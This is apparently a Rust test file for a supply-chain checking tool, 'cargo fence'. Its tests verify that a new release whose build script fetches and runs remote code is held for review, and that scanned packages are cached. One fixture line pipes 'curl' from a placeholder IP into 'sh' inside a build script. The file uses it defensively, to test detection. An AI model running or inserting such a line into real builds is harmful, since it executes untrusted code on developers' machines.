//! What a scanner reads reaches the judgement: packages are read where a release is new or held, once, and what was found
//! is told by `check` and `why`.

use fence_testkit::publishing::release;
use insta::assert_snapshot;

use crate::standing::Standing;

const NOW: &str = "--now 2026-08-25T12:00:00Z";

/// A project that locks the newer of two releases of `tidy`, which is ten days old.
fn standing(
    newer: impl FnOnce(fence_testkit::publishing::Release) -> fence_testkit::publishing::Release,
) -> Standing {
    let standing = Standing::behind_a_mirror("tidy = \"1\"");
    standing.registry.publish(release("tidy", "1.0.0").at("2026-01-01T12:00:00Z"));
    standing.registry.publish(release("tidy", "1.0.1").at("2026-08-15T12:00:00Z"));
    let changed = newer(release("tidy", "1.0.2").at("2026-08-15T13:00:00Z"));
    standing.registry.publish(changed);
    standing.cargo.run(["generate-lockfile"]);
    standing
}

/// Statements of a build script that fetches a program and runs it.
const FETCHES: &str =
    r#"std::process::Command::new("sh").args(["-c", "curl -s http://192.0.2.7/a | sh"]).status().unwrap();"#;

#[test]
fn a_build_script_that_comes_in_is_held_and_told() {
    let standing = standing(|tidy| tidy.build_script(FETCHES));
    assert_snapshot!(standing.run(&format!("check {NOW}")), @r#"
    $ cargo fence check --now 2026-08-25T12:00:00Z
        Checking 1 release at level medium (index 0 min old, rustsec 0 min)
    held[review]: tidy 1.0.2
      --> Cargo.lock:13
       |
    13 | name = "tidy"
       | ^^^^^^^^^^^^^ published 9 days ago; needs a reviewer, age alone will not admit it
       |
       = new-build-code: runs code where it is built, which 1.0.0 did not
       = new-capability: can start programs, which 1.0.0 could not
       = unreviewed-finding: fetch-and-run (high) at build.rs:2, which nobody has looked at
       = lesser-finding: build-reaches-out (medium) at build.rs:2, which nobody has looked at
       = lesser-finding: shell-command (medium) at build.rs:2, which nobody has looked at
       = through: app > tidy
    help: stay on 1.0.0, which is admitted
          cargo update -p tidy --precise 1.0.0
    help: or look at what is known about it, and at what it changes
          cargo fence why tidy@1.0.2
          cargo fence review tidy@1.0.2
    help: or let it in for a while, on your own word
          cargo fence except tidy@1.0.2 --codes new-capability,new-build-code,unreviewed-finding --because "…" --until 2026-09-01

    note: this project is not set up; what is locked now and old enough can be its baseline
          cargo fence init
        Finished 0 admitted, 1 held, 0 blocked, 1 of this project in […]
    [exit code 1]
    "#);
    assert_snapshot!(standing.run(&format!("why tidy {NOW}")), @r#"
    $ cargo fence why tidy --now 2026-08-25T12:00:00Z
    tidy 1.0.2 is held[review], level medium
      2026-08-15  published 9 days ago
      2026-08-15  new-build-code: runs code where it is built, which 1.0.0 did not  → asks for a
                  reviewer
      2026-08-15  new-capability: can start programs, which 1.0.0 could not  → asks for a reviewer
      2026-08-15  unreviewed-finding: fetch-and-run (high) at build.rs:2, which nobody has looked at  →
                  asks for a reviewer
      2026-08-15  lesser-finding: build-reaches-out (medium) at build.rs:2, which nobody has looked at 
                  → doubles the wait
      2026-08-15  lesser-finding: shell-command (medium) at build.rs:2, which nobody has looked at
      wait        1 day (level medium), then 2 days (lesser-finding); in the open for 9 days, over since
                  2026-08-17
      compared    with 1.0.0
      source      not compared with its repository: `cargo fence source tidy@1.0.2`
      attains     no level by itself; unknown: journal, publishers, people
      digest      31bde19b…
      through     app > tidy
      ways out
                  - one audit by a trusted reviewer or set
                  - an exception for new-capability, new-build-code, unreviewed-finding (override)
                  cargo fence review tidy@1.0.2
                  cargo fence except tidy@1.0.2 --codes new-capability,new-build-code,unreviewed-finding --because "…" --until 2026-09-01
    [exit code 0]
    "#);
}

#[test]
fn what_asks_for_nobody_is_admitted() {
    let standing = standing(|tidy| tidy);
    assert_snapshot!(standing.run(&format!("check {NOW}")), @"
    $ cargo fence check --now 2026-08-25T12:00:00Z
        Finished 1 admitted (1 by age), 1 of this project at level medium in […]
    [exit code 0]
    ");
    assert_snapshot!(standing.run(&format!("why tidy {NOW}")), @r"
    $ cargo fence why tidy --now 2026-08-25T12:00:00Z
    tidy 1.0.2 is admitted: by age, level medium
      2026-08-15  published 9 days ago
      wait        1 day (level medium); in the open for 9 days, over since 2026-08-16
      compared    with 1.0.0
      source      not compared with its repository: `cargo fence source tidy@1.0.2`
      attains     level medium by itself; unknown: journal, publishers, people
      digest      cd397137…
      through     app > tidy
    [exit code 0]
    ");
}

/// What was read is kept: nothing has to be fetched again, by whomever.
#[test]
fn a_package_is_read_once() {
    let standing = standing(|tidy| tidy.build_script(FETCHES));
    let check = format!("check {NOW}");
    let first = standing.run(&check);
    standing.registry.server().take_requests();
    let second = standing.run(&check);
    assert_eq!((first.code, first.stdout), (second.code, second.stdout));
    let asked = standing.registry.server().take_requests();
    let packages: Vec<_> = asked.iter().filter(|request| request.path.contains("tidy-1")).collect();
    assert!(packages.is_empty(), "{packages:?}");
}

#[test]
fn what_cannot_be_read_waits_and_says_why() {
    let standing = standing(|tidy| tidy);
    standing.run(&format!("update {NOW}"));
    assert_snapshot!(standing.run(&format!("check --offline {NOW}")), @"
    $ cargo fence check --offline --now 2026-08-25T12:00:00Z
        Checking 1 release at level medium (index 0 min old, rustsec 0 min)
    held[young]: tidy 1.0.2
      --> Cargo.lock:13
       |
    13 | name = \"tidy\"
       | ^^^^^^^^^^^^^ published 9 days ago; admitted in 21 days, on 2026-09-14
       |
       = unscanned: its package could not be read: tidy 1.0.2 is not in cargo's cache, and the network
           is not to be used
       = through: app > tidy
    help: stay on 1.0.0, which is admitted
          cargo update -p tidy --precise 1.0.0
    help: or look at what is known about it
          cargo fence why tidy@1.0.2
        Finished 0 admitted, 1 held, 0 blocked, 1 of this project in […]
    [exit code 1]
    ");
    standing.cargo.write("fence.toml", &format!("scan = \"off\"\n\n{}", crate::standing::POLICY));
    assert_snapshot!(standing.run(&format!("check --offline {NOW}")), @"
    $ cargo fence check --offline --now 2026-08-25T12:00:00Z
        Finished 1 admitted (1 by age), 1 of this project at level medium in […]
    [exit code 0]
    ");
}
